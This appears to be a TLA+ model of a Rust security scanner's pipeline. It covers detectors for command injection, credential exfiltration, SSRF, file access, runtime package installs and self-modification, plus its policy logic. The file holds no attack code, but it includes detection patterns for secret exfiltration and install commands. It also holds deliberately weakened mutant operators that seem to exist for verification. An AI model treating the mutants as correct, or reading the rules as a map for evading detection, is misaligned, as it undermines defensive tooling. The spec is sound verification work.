---- MODULE Spec2Model ----
(***************************************************************************)
(* AgentShield: the analysis pipeline of the scanner.                      *)
(*                                                                         *)
(* Strings whose content the code inspects (literal arguments, callee      *)
(* names, paths) are sequences of one-character strings; the backtick      *)
(* character is written "<bt>" because it cannot appear in a TLA+ string.  *)
(* Strings the code only copies (rule ids, rule names, CWE ids,            *)
(* remediation texts) are TLA+ strings.  Option<T> is a sequence of length *)
(* 0 (None) or 1 (Some).                                                   *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    pc,                  \* position of the running operation
    policy,              \* config.policy
    targets,             \* Vec<ScanTarget> under analysis
    all_findings,        \* raw findings (scan's all_findings / the &[Finding] argument)
    effective_findings,  \* result of Policy::apply
    verdict,             \* Option<PolicyVerdict>: result of Policy::evaluate
    report,              \* Option<ScanReport>
    rule,                \* id of the detector that ran last ("" before any)
    out,                 \* findings returned by that detector
    root,                \* Option: the directory handed to the adapters
    args,                \* Option: the argument text and parameter names handed to a classifier
    options,             \* Option: what the command line and the config file supply to a scan
    error,               \* Option<ShieldError>: the error the running command returned
    exit_code            \* Option<i32>: the exit code of the process

vars == <<pc, policy, targets, all_findings, effective_findings, verdict, report, rule, out, root, args, options, error, exit_code>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxFindings == 2    \* length of a finding list handed to the policy
MaxPayload == 3     \* length of the string an ArgumentSource carries
MaxFacts == 3       \* facts (and source files) of a target under a detector

None == <<>>
Some(x) == <<x>>
IsSome(o) == Len(o) = 1

(***************************************************************************)
(* Generic sequence helpers.                                               *)
(***************************************************************************)
RECURSIVE Flatten(_)
Flatten(ss) == IF ss = <<>> THEN <<>> ELSE Head(ss) \o Flatten(Tail(ss))

SeqsUpTo(S, n) == UNION {[1..k -> S] : k \in 0..n}

(***************************************************************************)
(* rules/finding.rs: Severity and Confidence, ordered by declaration.      *)
(***************************************************************************)
Severity == {"info", "low", "medium", "high", "critical"}

SeverityOrd(s) ==
    CASE s = "info" -> 0
      [] s = "low" -> 1
      [] s = "medium" -> 2
      [] s = "high" -> 3
      [] s = "critical" -> 4

Confidence == {"low", "medium", "high"}

ConfidenceOrd(c) ==
    CASE c = "low" -> 0
      [] c = "medium" -> 1
      [] c = "high" -> 2

\* Iterator::max over a sequence of severities: None when empty.
RECURSIVE MaxSeverity(_)
MaxSeverity(sevs) ==
    IF sevs = <<>> THEN None
    ELSE LET rest == MaxSeverity(Tail(sevs))
         IN  IF IsSome(rest) /\ SeverityOrd(rest[1]) > SeverityOrd(Head(sevs))
             THEN rest
             ELSE Some(Head(sevs))

(***************************************************************************)
(* ir/mod.rs: SourceLocation.  Paths are character strings.                *)
(***************************************************************************)
SourceLocation(file, line) ==
    [file |-> file, line |-> line, column |-> 0, end_line |-> None, end_column |-> None]

(***************************************************************************)
(* String primitives over character sequences.                             *)
(***************************************************************************)
\* str::contains(char)
ContainsChar(s, c) == \E i \in 1..Len(s) : s[i] = c

\* the text w occurs in s at position i
OccursAt(s, i, w) ==
    /\ i >= 1
    /\ i + Len(w) - 1 <= Len(s)
    /\ \A k \in 1..Len(w) : s[i + k - 1] = w[k]

\* str::contains(&str)
ContainsStr(s, w) == \E i \in 1..(Len(s) + 1) : OccursAt(s, i, w)

\* [String]::join(sep)
RECURSIVE Join(_, _)
Join(ss, sep) ==
    IF ss = <<>> THEN <<>>
    ELSE IF Len(ss) = 1 THEN ss[1]
    ELSE ss[1] \o sep \o Join(Tail(ss), sep)

(***************************************************************************)
(* ir/mod.rs: ArgumentSource.                                              *)
(***************************************************************************)
Literal(s) == [tag |-> "Literal", val |-> s]
Parameter(n) == [tag |-> "Parameter", name |-> n]
EnvVar(n) == [tag |-> "EnvVar", name |-> n]
Interpolated == [tag |-> "Interpolated"]
Unknown == [tag |-> "Unknown"]

is_tainted_UnknownClean(a) == a.tag \notin {"Literal", "Unknown"}

\* ArgumentSource::is_tainted
is_tainted(a) == ~(a.tag = "Literal")

\* {:?} of an ArgumentSource
DebugArgumentSource(a) ==
    CASE a.tag = "Literal" -> <<"Literal(\"">> \o a.val \o <<"\")">>
      [] a.tag = "Parameter" -> <<"Parameter { name: \"">> \o a.name \o <<"\" }">>
      [] a.tag = "EnvVar" -> <<"EnvVar { name: \"">> \o a.name \o <<"\" }">>
      [] a.tag = "Interpolated" -> <<"Interpolated">>
      [] a.tag = "Unknown" -> <<"Unknown">>

(***************************************************************************)
(* std::path: a path's components.  RootDir is <<"/">>, a leading "." is   *)
(* CurDir <<".">>; empty components and later "." components are skipped.  *)
(***************************************************************************)
RECURSIVE SplitSlash(_, _)
\* the pieces of s between '/' characters; cur is the piece being read
SplitSlash(s, cur) ==
    IF s = <<>> THEN <<cur>>
    ELSE IF Head(s) = "/" THEN <<cur>> \o SplitSlash(Tail(s), <<>>)
    ELSE SplitSlash(Tail(s), Append(cur, Head(s)))

RECURSIVE NormalComponents(_, _)
NormalComponents(pieces, first) ==
    IF pieces = <<>> THEN <<>>
    ELSE LET c == Head(pieces)
             keep == c # <<>> /\ (c # <<".">> \/ first)
         IN  (IF keep THEN <<c>> ELSE <<>>)
             \o NormalComponents(Tail(pieces), first /\ c = <<>>)

\* Path::components
Components(p) ==
    IF p = <<>> THEN <<>>
    ELSE IF Head(p) = "/" THEN <<<<"/">>>> \o NormalComponents(SplitSlash(p, <<>>), FALSE)
    ELSE NormalComponents(SplitSlash(p, <<>>), TRUE)

\* PartialEq for Path/PathBuf: equal component sequences
PathEq(a, b) == Components(a) = Components(b)

\* Path::ends_with: child's components are a suffix of self's
PathEndsWith(self, child) ==
    LET sc == Components(self)
        cc == Components(child)
    IN  /\ Len(cc) <= Len(sc)
        /\ \A k \in 1..Len(cc) : sc[Len(sc) - Len(cc) + k] = cc[k]

(***************************************************************************)
(* regex: the fragment INSTALL_PATTERNS uses.  A pattern is a sequence of  *)
(* items: a literal text, \s+ or \b.                                       *)
(***************************************************************************)
Lit(w) == [k |-> "lit", w |-> w]
Ws == [k |-> "ws", w |-> <<>>]
Wb == [k |-> "wb", w |-> <<>>]

IsSpace(c) == c \in {" ", "\t", "\n"}

WordChars ==
    {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m",
     "n", "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z",
     "A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M",
     "N", "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z",
     "0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "_"}

\* \w at position i (FALSE outside the text)
IsWordAt(s, i) == i >= 1 /\ i <= Len(s) /\ s[i] \in WordChars

RECURSIVE MatchFrom(_, _, _, _)
\* items j.. of pat match s starting at position i
MatchFrom(s, i, pat, j) ==
    IF j > Len(pat) THEN TRUE
    ELSE CASE pat[j].k = "lit" ->
                OccursAt(s, i, pat[j].w) /\ MatchFrom(s, i + Len(pat[j].w), pat, j + 1)
           [] pat[j].k = "ws" ->
                \E n \in 1..(Len(s) - i + 1) :
                    /\ \A m \in i..(i + n - 1) : IsSpace(s[m])
                    /\ MatchFrom(s, i + n, pat, j + 1)
           [] pat[j].k = "wb" ->
                (IsWordAt(s, i - 1) # IsWordAt(s, i)) /\ MatchFrom(s, i, pat, j + 1)

\* Regex::is_match: an unanchored search
is_match(pat, s) == \E i \in 1..(Len(s) + 1) : MatchFrom(s, i, pat, 1)

(***************************************************************************)
(* rules/builtin/command_injection.rs: SHIELD-001                          *)
(***************************************************************************)
\* CommandInjectionDecision with the backtick test dropped from the Literal arm
CommandInjectionDecision_NoBacktick(arg) ==
    CASE arg.tag = "Parameter" -> <<TRUE, "high">>
      [] arg.tag = "Interpolated" -> <<TRUE, "high">>
      [] arg.tag = "Unknown" -> <<TRUE, "medium">>
      [] arg.tag = "Literal" -> <<ContainsChar(arg.val, "$"), "medium">>
      [] arg.tag = "EnvVar" -> <<TRUE, "medium">>

\* the (should_flag, confidence) match of CommandInjectionDetector::run
CommandInjectionDecision(arg) ==
    CASE arg.tag = "Parameter" -> <<TRUE, "high">>
      [] arg.tag = "Interpolated" -> <<TRUE, "high">>
      [] arg.tag = "Unknown" -> <<TRUE, "medium">>
      [] arg.tag = "Literal" ->
            <<ContainsChar(arg.val, "$") \/ ContainsChar(arg.val, "<bt>"), "medium">>
      [] arg.tag = "EnvVar" -> <<TRUE, "medium">>

CommandInjectionParamDesc(arg) ==
    CASE arg.tag = "Parameter" -> <<"parameter '">> \o arg.name \o <<"'">>
      [] arg.tag = "Interpolated" -> <<"interpolated string">>
      [] arg.tag = "EnvVar" -> <<"env var '">> \o arg.name \o <<"'">>
      [] arg.tag = "Literal" -> <<"literal with shell expansion: '">> \o arg.val \o <<"'">>
      [] arg.tag = "Unknown" -> <<"unknown source">>

CommandInjectionFinding(cmd, confidence) ==
    LET param_desc == CommandInjectionParamDesc(cmd.command_arg)
    IN  [rule_id |-> "SHIELD-001",
         rule_name |-> "Command Injection",
         severity |-> "critical",
         confidence |-> confidence,
         attack_category |-> "command_injection",
         message |-> <<"'">> \o cmd.function \o <<"' receives ">> \o param_desc
                     \o <<" as command argument">>,
         location |-> Some(cmd.location),
         evidence |-> <<[description |-> param_desc \o <<" flows into '">>
                                         \o cmd.function \o <<"'">>,
                         location |-> Some(cmd.location),
                         snippet |-> None]>>,
         taint_path |-> None,
         remediation |-> Some("Validate and sanitize the input"),
         cwe_id |-> Some("CWE-78")]

\* CommandInjectionDetector::run
CommandInjectionRun(target) ==
    LET cmds == target.execution.commands
    IN  Flatten([i \in 1..Len(cmds) |->
            LET d == CommandInjectionDecision(cmds[i].command_arg)
            IN  IF d[1] THEN <<CommandInjectionFinding(cmds[i], d[2])>> ELSE <<>>])

(***************************************************************************)
(* rules/builtin/credential_exfil.rs: SHIELD-002                           *)
(***************************************************************************)
PROXIMITY_THRESHOLD == 30

\* (a as isize - b as isize).unsigned_abs()
LineDistance(a, b) == IF a >= b THEN a - b ELSE b - a

\* Iterator::min over a non-empty sequence of distances
RECURSIVE MinOf(_)
MinOf(ds) ==
    IF Len(ds) = 1 THEN ds[1]
    ELSE LET m == MinOf(Tail(ds)) IN IF ds[1] <= m THEN ds[1] ELSE m

\* ProximityConfidence with a strict comparison
ProximityConfidence_Strict(min_distance) ==
    IF min_distance < PROXIMITY_THRESHOLD THEN "high" ELSE "medium"

\* the proximity scoring of CredentialExfilDetector::run
ProximityConfidence(min_distance) ==
    IF min_distance <= PROXIMITY_THRESHOLD THEN "high" ELSE "medium"

\* SameFile without the file test: accesses of every file correlate
SameFile_AnyFile(e, http) == TRUE

\* the same_file_secrets filter: e.location.file == *http_file
SameFile(e, http) == PathEq(e.location.file, http.location.file)

SecretName(e) ==
    CASE e.var_name.tag = "Literal" -> e.var_name.val
      [] e.var_name.tag = "EnvVar" -> e.var_name.name
      [] OTHER -> <<"unknown">>

CredentialExfilFinding(http, same_file_secrets) ==
    LET min_distance ==
            MinOf([k \in 1..Len(same_file_secrets) |->
                      LineDistance(same_file_secrets[k].location.line, http.location.line)])
        secret_names == [k \in 1..Len(same_file_secrets) |-> SecretName(same_file_secrets[k])]
    IN  [rule_id |-> "SHIELD-002",
         rule_name |-> "Credential Exfiltration",
         severity |-> "critical",
         confidence |-> ProximityConfidence(min_distance),
         attack_category |-> "credential_exfiltration",
         message |-> <<"Reads sensitive data (">> \o Join(secret_names, <<", ">>)
                     \o <<") and sends outbound HTTP (">> \o http.function \o <<") in ">>
                     \o http.location.file,
         location |-> Some(same_file_secrets[1].location),
         evidence |->
            [k \in 1..Len(same_file_secrets) |->
                [description |-> <<"Sensitive env var access: ">>
                                 \o DebugArgumentSource(same_file_secrets[k].var_name),
                 location |-> Some(same_file_secrets[k].location),
                 snippet |-> None]]
            \o <<[description |-> <<"Outbound HTTP via '">> \o http.function \o <<"'">>,
                  location |-> Some(http.location),
                  snippet |-> None]>>,
         taint_path |-> None,
         remediation |-> Some("Review whether credentials need to be sent externally"),
         cwe_id |-> Some("CWE-522")]

\* CredentialExfilDetector::run
CredentialExfilRun(target) ==
    LET IsSensitive(e) == e.is_sensitive
        SendsData(n) == n.sends_data
        sensitive_accesses == SelectSeq(target.execution.env_accesses, IsSensitive)
        outbound_http == SelectSeq(target.execution.network_operations, SendsData)
    IN  IF sensitive_accesses = <<>> \/ outbound_http = <<>> THEN <<>>
        ELSE Flatten([i \in 1..Len(outbound_http) |->
                LET http == outbound_http[i]
                    InHttpFile(e) == SameFile(e, http)
                    same_file_secrets == SelectSeq(sensitive_accesses, InHttpFile)
                IN  IF same_file_secrets = <<>> THEN <<>>
                    ELSE <<CredentialExfilFinding(http, same_file_secrets)>>])

(***************************************************************************)
(* rules/builtin/ssrf.rs: SHIELD-003                                       *)
(***************************************************************************)
\* SsrfDecision with EnvVar treated like Unknown
SsrfDecision_FlagEnvVar(arg) ==
    CASE arg.tag = "Parameter" -> <<TRUE, "high">>
      [] arg.tag = "Interpolated" -> <<TRUE, "medium">>
      [] arg.tag = "Unknown" -> <<TRUE, "medium">>
      [] arg.tag = "EnvVar" -> <<TRUE, "medium">>
      [] arg.tag = "Literal" -> <<FALSE, "low">>

\* the (should_flag, confidence) match of SsrfDetector::run
SsrfDecision(arg) ==
    CASE arg.tag = "Parameter" -> <<TRUE, "high">>
      [] arg.tag = "Interpolated" -> <<TRUE, "medium">>
      [] arg.tag = "Unknown" -> <<TRUE, "medium">>
      [] arg.tag \in {"Literal", "EnvVar"} -> <<FALSE, "low">>

SsrfSourceDesc(arg) ==
    CASE arg.tag = "Parameter" -> <<"parameter '">> \o arg.name \o <<"'">>
      [] arg.tag = "Interpolated" -> <<"interpolated string">>
      [] arg.tag = "Unknown" -> <<"unknown source">>
      [] OTHER -> <<"other">>

SsrfFinding(net_op, confidence) ==
    LET source_desc == SsrfSourceDesc(net_op.url_arg)
    IN  [rule_id |-> "SHIELD-003",
         rule_name |-> "SSRF",
         severity |-> "high",
         confidence |-> confidence,
         attack_category |-> "ssrf",
         message |-> <<"'">> \o net_op.function \o <<"' fetches URL from ">> \o source_desc
                     \o <<" without allowlist">>,
         location |-> Some(net_op.location),
         evidence |-> <<[description |-> source_desc \o <<" flows into URL argument of '">>
                                         \o net_op.function \o <<"'">>,
                         location |-> Some(net_op.location),
                         snippet |-> None]>>,
         taint_path |-> None,
         remediation |-> Some("Validate URLs against an allowlist of permitted domains"),
         cwe_id |-> Some("CWE-918")]

\* SsrfDetector::run
SsrfRun(target) ==
    LET ops == target.execution.network_operations
    IN  Flatten([i \in 1..Len(ops) |->
            LET d == SsrfDecision(ops[i].url_arg)
            IN  IF d[1] THEN <<SsrfFinding(ops[i], d[2])>> ELSE <<>>])

(***************************************************************************)
(* rules/builtin/arbitrary_file_access.rs: SHIELD-004                      *)
(***************************************************************************)
FileAccessSourceDesc(arg) ==
    CASE arg.tag = "Parameter" -> <<"parameter '">> \o arg.name \o <<"'">>
      [] arg.tag = "Interpolated" -> <<"interpolated string">>
      [] arg.tag = "Unknown" -> <<"unknown source">>
      [] arg.tag = "EnvVar" -> <<"env var '">> \o arg.name \o <<"'">>

\* FileAccessConfidence with Interpolated ranked like Parameter
FileAccessConfidence_InterpolatedHigh(arg) ==
    IF arg.tag \in {"Parameter", "Interpolated"} THEN "high" ELSE "medium"

\* the confidence match of ArbitraryFileAccessDetector::run
FileAccessConfidence(arg) == IF arg.tag = "Parameter" THEN "high" ELSE "medium"

\* {:?} of a FileOpType
DebugFileOpType(op) ==
    CASE op = "read" -> <<"Read">>
      [] op = "write" -> <<"Write">>
      [] op = "delete" -> <<"Delete">>
      [] op = "list" -> <<"List">>
      [] op = "chmod" -> <<"Chmod">>

FileAccessFinding(file_op) ==
    LET source_desc == FileAccessSourceDesc(file_op.path_arg)
    IN  [rule_id |-> "SHIELD-004",
         rule_name |-> "Arbitrary File Access",
         severity |-> "high",
         confidence |-> FileAccessConfidence(file_op.path_arg),
         attack_category |-> "arbitrary_file_access",
         message |-> <<"File ">> \o DebugFileOpType(file_op.operation)
                     \o <<" with path from ">> \o source_desc,
         location |-> Some(file_op.location),
         evidence |-> <<[description |-> source_desc \o <<" flows into file path">>,
                         location |-> Some(file_op.location),
                         snippet |-> None]>>,
         taint_path |-> None,
         remediation |-> Some("Canonicalize paths and validate against an allowlist"),
         cwe_id |-> Some("CWE-22")]

\* ArbitraryFileAccessDetector::run; the Literal arm (continue) is unreachable
\* under is_tainted and emits nothing
ArbitraryFileAccessRun(target) ==
    LET ops == target.execution.file_operations
    IN  Flatten([i \in 1..Len(ops) |->
            IF is_tainted(ops[i].path_arg) /\ ops[i].path_arg.tag # "Literal"
            THEN <<FileAccessFinding(ops[i])>>
            ELSE <<>>])

(***************************************************************************)
(* rules/builtin/runtime_install.rs: SHIELD-005                            *)
(***************************************************************************)
INSTALL_PATTERNS ==
    <<  <<Lit(<<"p", "i", "p">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
        <<Lit(<<"p", "i", "p", "3">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
        <<Lit(<<"n", "p", "m">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
        <<Lit(<<"n", "p", "m">>), Ws, Lit(<<"i">>), Wb>>,
        <<Lit(<<"u", "v">>), Ws, Lit(<<"p", "i", "p">>), Ws,
          Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
        <<Lit(<<"y", "a", "r", "n">>), Ws, Lit(<<"a", "d", "d">>)>>,
        <<Lit(<<"p", "n", "p", "m">>), Ws, Lit(<<"a", "d", "d">>)>>  >>

\* InstallMatches with the break after the first match dropped
InstallMatches_NoBreak(cmd_str) ==
    {j \in 1..Len(INSTALL_PATTERNS) : is_match(INSTALL_PATTERNS[j], cmd_str)}

\* the pattern loop with its break: the patterns that produce a finding for
\* cmd_str are the first matching one, if any
InstallMatches(cmd_str) ==
    LET hits == {j \in 1..Len(INSTALL_PATTERNS) : is_match(INSTALL_PATTERNS[j], cmd_str)}
    IN  {j \in hits : \A h \in hits : j <= h}

\* the dynamic_exec test of RuntimeInstallDetector::run
IsProgrammaticInstall(function) ==
    \/ ContainsStr(function, <<"p", "i", "p", ".", "m", "a", "i", "n">>)
    \/ ContainsStr(function, <<"i", "m", "p", "o", "r", "t", "l", "i", "b">>)

RuntimeInstallCommandFinding(cmd, cmd_str) ==
    [rule_id |-> "SHIELD-005",
     rule_name |-> "Runtime Package Install",
     severity |-> "high",
     confidence |-> "high",
     attack_category |-> "supply_chain",
     message |-> <<"Runtime package installation detected: '">> \o cmd_str \o <<"'">>,
     location |-> Some(cmd.location),
     evidence |-> <<[description |-> <<"'">> \o cmd.function \o <<"' executes '">>
                                     \o cmd_str \o <<"'">>,
                     location |-> Some(cmd.location),
                     snippet |-> None]>>,
     taint_path |-> None,
     remediation |-> Some("Install dependencies at build time, not runtime"),
     cwe_id |-> Some("CWE-829")]

RuntimeInstallDynamicFinding(dyn_exec) ==
    [rule_id |-> "SHIELD-005",
     rule_name |-> "Runtime Package Install",
     severity |-> "high",
     confidence |-> "medium",
     attack_category |-> "supply_chain",
     message |-> <<"Programmatic package installation via '">> \o dyn_exec.function
                 \o <<"'">>,
     location |-> Some(dyn_exec.location),
     evidence |-> <<[description |-> <<"Dynamic install call: '">> \o dyn_exec.function
                                     \o <<"'">>,
                     location |-> Some(dyn_exec.location),
                     snippet |-> None]>>,
     taint_path |-> None,
     remediation |-> Some("Avoid programmatic package installation at runtime"),
     cwe_id |-> Some("CWE-829")]

\* RuntimeInstallDetector::run
RuntimeInstallRun(target) ==
    LET cmds == target.execution.commands
        dyns == target.execution.dynamic_exec
    IN  Flatten([i \in 1..Len(cmds) |->
            IF cmds[i].command_arg.tag # "Literal" THEN <<>>
            ELSE LET cmd_str == cmds[i].command_arg.val
                     fired == InstallMatches(cmd_str)
                 IN  Flatten([j \in 1..Len(INSTALL_PATTERNS) |->
                        IF j \in fired
                        THEN <<RuntimeInstallCommandFinding(cmds[i], cmd_str)>>
                        ELSE <<>>])])
        \o
        Flatten([i \in 1..Len(dyns) |->
            IF IsProgrammaticInstall(dyns[i].function)
            THEN <<RuntimeInstallDynamicFinding(dyns[i])>>
            ELSE <<>>])

(***************************************************************************)
(* rules/builtin/self_modification.rs: SHIELD-006                          *)
(***************************************************************************)
\* IsSelfWrite testing one direction only
IsSelfWrite_OneWay(source_paths, path) ==
    \E k \in 1..Len(source_paths) : PathEndsWith(source_paths[k], path)

\* the is_self_write closure
IsSelfWrite(source_paths, path) ==
    \E k \in 1..Len(source_paths) :
        LET sp == source_paths[k]
        IN  PathEndsWith(sp, path) \/ PathEndsWith(path, sp) \/ PathEq(sp, path)

\* self_mod_finding
self_mod_finding(message, confidence, location) ==
    [rule_id |-> "SHIELD-006",
     rule_name |-> "Self-Modification",
     severity |-> "high",
     confidence |-> confidence,
     attack_category |-> "self_modification",
     message |-> message,
     location |-> Some(location),
     evidence |-> <<[description |-> <<"Code writes to files at runtime">>,
                     location |-> Some(location),
                     snippet |-> None]>>,
     taint_path |-> None,
     remediation |-> Some("Code should not modify its own source files at runtime"),
     cwe_id |-> Some("CWE-506")]

\* the match on file_op.path_arg of SelfModificationDetector::run
SelfModificationMatch(source_paths, file_op) ==
    LET arg == file_op.path_arg
    IN  CASE arg.tag = "Literal" ->
                IF IsSelfWrite(source_paths, arg.val)
                THEN <<self_mod_finding(<<"Writes to own source file: ">> \o arg.val,
                                        "high", file_op.location)>>
                ELSE <<>>
          [] arg.tag = "Parameter" ->
                <<self_mod_finding(<<"Writes to file path from parameter '">> \o arg.name
                                   \o <<"' - may target own source">>,
                                   "medium", file_op.location)>>
          [] arg.tag = "Interpolated" ->
                <<self_mod_finding(
                    <<"Writes to dynamically constructed file path - may target own source">>,
                    "medium", file_op.location)>>
          [] arg.tag = "Unknown" ->
                <<self_mod_finding(
                    <<"Writes to file with unresolved path - may target own source">>,
                    "low", file_op.location)>>
          [] arg.tag = "EnvVar" ->
                <<self_mod_finding(<<"Writes to file path from env var '">> \o arg.name
                                   \o <<"' - may target own source">>,
                                   "low", file_op.location)>>

\* the !matches!(file_op.operation, FileOpType::Write) guard
IsWrite(file_op) == file_op.operation = "write"

\* SelfModificationDetector::run
SelfModificationRun(target) ==
    LET source_paths == [k \in 1..Len(target.source_files) |-> target.source_files[k].path]
        ops == target.execution.file_operations
    IN  Flatten([i \in 1..Len(ops) |->
            IF ~IsWrite(ops[i]) THEN <<>>
            ELSE SelfModificationMatch(source_paths, ops[i])])

(***************************************************************************)
(* rules/builtin/mod.rs, rules/mod.rs: the engine                          *)
(***************************************************************************)
\* the registration with RuntimeInstallDetector ahead of ArbitraryFileAccessDetector
all_detectors_Reordered ==
    <<"SHIELD-001", "SHIELD-002", "SHIELD-003", "SHIELD-005", "SHIELD-004", "SHIELD-006">>

\* all_detectors: the rule ids in registration order
all_detectors ==
    <<"SHIELD-001", "SHIELD-002", "SHIELD-003", "SHIELD-004", "SHIELD-005", "SHIELD-006">>

\* Detector::run, dispatched on the detector
DetectorRun(id, target) ==
    CASE id = "SHIELD-001" -> CommandInjectionRun(target)
      [] id = "SHIELD-002" -> CredentialExfilRun(target)
      [] id = "SHIELD-003" -> SsrfRun(target)
      [] id = "SHIELD-004" -> ArbitraryFileAccessRun(target)
      [] id = "SHIELD-005" -> RuntimeInstallRun(target)
      [] id = "SHIELD-006" -> SelfModificationRun(target)

DetectorMetadata_SsrfCritical(id) ==
    CASE id = "SHIELD-001" ->
            [id |-> "SHIELD-001", name |-> "Command Injection",
             default_severity |-> "critical", cwe_id |-> Some("CWE-78")]
      [] id = "SHIELD-002" ->
            [id |-> "SHIELD-002", name |-> "Credential Exfiltration",
             default_severity |-> "critical", cwe_id |-> Some("CWE-522")]
      [] id = "SHIELD-003" ->
            [id |-> "SHIELD-003", name |-> "SSRF",
             default_severity |-> "critical", cwe_id |-> Some("CWE-918")]
      [] id = "SHIELD-004" ->
            [id |-> "SHIELD-004", name |-> "Arbitrary File Access",
             default_severity |-> "high", cwe_id |-> Some("CWE-22")]
      [] id = "SHIELD-005" ->
            [id |-> "SHIELD-005", name |-> "Runtime Package Install",
             default_severity |-> "high", cwe_id |-> Some("CWE-829")]
      [] id = "SHIELD-006" ->
            [id |-> "SHIELD-006", name |-> "Self-Modification",
             default_severity |-> "high", cwe_id |-> Some("CWE-506")]

\* Detector::metadata, dispatched on the detector
DetectorMetadata(id) ==
    CASE id = "SHIELD-001" ->
            [id |-> "SHIELD-001", name |-> "Command Injection",
             default_severity |-> "critical", cwe_id |-> Some("CWE-78")]
      [] id = "SHIELD-002" ->
            [id |-> "SHIELD-002", name |-> "Credential Exfiltration",
             default_severity |-> "critical", cwe_id |-> Some("CWE-522")]
      [] id = "SHIELD-003" ->
            [id |-> "SHIELD-003", name |-> "SSRF",
             default_severity |-> "high", cwe_id |-> Some("CWE-918")]
      [] id = "SHIELD-004" ->
            [id |-> "SHIELD-004", name |-> "Arbitrary File Access",
             default_severity |-> "high", cwe_id |-> Some("CWE-22")]
      [] id = "SHIELD-005" ->
            [id |-> "SHIELD-005", name |-> "Runtime Package Install",
             default_severity |-> "high", cwe_id |-> Some("CWE-829")]
      [] id = "SHIELD-006" ->
            [id |-> "SHIELD-006", name |-> "Self-Modification",
             default_severity |-> "high", cwe_id |-> Some("CWE-506")]

RuleEngineRun_AbortsOnNoFinding(target) ==
    LET findings == Flatten([d \in 1..Len(all_detectors) |-> DetectorRun(all_detectors[d], target)])
    IN  IF findings = <<>> THEN <<[tag |-> "Panic"]>> ELSE findings

\* RuleEngine::run: flat_map over the detectors
RuleEngineRun(target) ==
    Flatten([d \in 1..Len(all_detectors) |-> DetectorRun(all_detectors[d], target)])

(***************************************************************************)
(* rules/policy.rs                                                         *)
(***************************************************************************)
\* Policy::default
DefaultPolicy == [fail_on |-> "high", ignore_rules |-> {}, overrides |-> <<>>]

\* NotIgnored that lets an overridden rule through
NotIgnored_UnlessOverridden(p, f) ==
    f.rule_id \notin p.ignore_rules \/ f.rule_id \in DOMAIN p.overrides

\* .filter(|f| !self.ignore_rules.contains(&f.rule_id)), in evaluate and in apply
NotIgnored(p, f) == f.rule_id \notin p.ignore_rules

\* EvaluateSeverity without the override lookup
EvaluateSeverity_NoOverride(p, f) == f.severity

\* evaluate's map closure: self.overrides.get(&f.rule_id).copied().unwrap_or(f.severity)
EvaluateSeverity(p, f) ==
    IF f.rule_id \in DOMAIN p.overrides THEN p.overrides[f.rule_id] ELSE f.severity

RECURSIVE EffectiveSeverities(_, _)
\* evaluate's filter/map/collect
EffectiveSeverities(p, fs) ==
    IF fs = <<>> THEN <<>>
    ELSE (IF NotIgnored(p, Head(fs)) THEN <<EvaluateSeverity(p, Head(fs))>> ELSE <<>>)
         \o EffectiveSeverities(p, Tail(fs))

\* SeverityGe as a strict comparison
SeverityGe_Strict(a, b) == SeverityOrd(a) > SeverityOrd(b)

\* sev >= self.fail_on (derived Ord)
SeverityGe(a, b) == SeverityOrd(a) >= SeverityOrd(b)

\* Policy::evaluate
PolicyEvaluate(p, fs) ==
    LET effective == EffectiveSeverities(p, fs)
        highest == MaxSeverity(effective)
        failed == \E i \in 1..Len(effective) : SeverityGe(effective[i], p.fail_on)
    IN  [pass |-> ~failed,
         total_findings |-> Len(fs),
         effective_findings |-> Len(effective),
         highest_severity |-> highest,
         fail_threshold |-> p.fail_on]

\* ApplyOverride that only ever lowers a severity
ApplyOverride_DowngradeOnly(p, f) ==
    IF f.rule_id \in DOMAIN p.overrides
       /\ SeverityOrd(p.overrides[f.rule_id]) < SeverityOrd(f.severity)
    THEN [f EXCEPT !.severity = p.overrides[f.rule_id]]
    ELSE f

\* apply's map closure: clone, then if let Some(&override_sev) { f.severity = override_sev }
ApplyOverride(p, f) ==
    IF f.rule_id \in DOMAIN p.overrides
    THEN [f EXCEPT !.severity = p.overrides[f.rule_id]]
    ELSE f

RECURSIVE PolicyApply(_, _)
\* Policy::apply
PolicyApply(p, fs) ==
    IF fs = <<>> THEN <<>>
    ELSE (IF NotIgnored(p, Head(fs)) THEN <<ApplyOverride(p, Head(fs))>> ELSE <<>>)
         \o PolicyApply(p, Tail(fs))

(***************************************************************************)
(* Inputs of the policy operations: finding lists and policies.            *)
(***************************************************************************)
PolicyRules == {"SHIELD-001", "SHIELD-009"}

\* make_finding of the policy tests, with the fields the policy must not touch
\* differing between the two rules.
MakeFinding(rule_id, severity) ==
    [rule_id |-> rule_id,
     rule_name |-> "Test",
     severity |-> severity,
     confidence |-> IF rule_id = "SHIELD-001" THEN "high" ELSE "low",
     attack_category |-> "command_injection",
     message |-> <<"test">>,
     location |-> IF rule_id = "SHIELD-001"
                  THEN Some(SourceLocation(<<"a", ".", "p", "y">>, 1))
                  ELSE None,
     evidence |-> <<>>,
     taint_path |-> None,
     remediation |-> None,
     cwe_id |-> None]

FindingInputs == {MakeFinding(r, s) : r \in PolicyRules, s \in Severity}

OverrideInputs == UNION {[D -> {"info", "critical"}] : D \in SUBSET PolicyRules}

PolicyInputs ==
    {[fail_on |-> t, ignore_rules |-> ig, overrides |-> ov] :
        t \in Severity, ig \in SUBSET PolicyRules, ov \in OverrideInputs}

(***************************************************************************)
(* Policy operations called on arbitrary inputs.                           *)
(***************************************************************************)
InitPolicy ==
    /\ pc = "policy"
    /\ policy \in PolicyInputs
    /\ all_findings \in SeqsUpTo(FindingInputs, MaxFindings)
    /\ targets = <<>>
    /\ effective_findings = <<>>
    /\ verdict = None
    /\ report = None
    /\ rule = ""
    /\ out = <<>>
    /\ root = None /\ args = None /\ options = None /\ error = None /\ exit_code = None

CallApply ==
    /\ pc = "policy"
    /\ effective_findings' = PolicyApply(policy, all_findings)
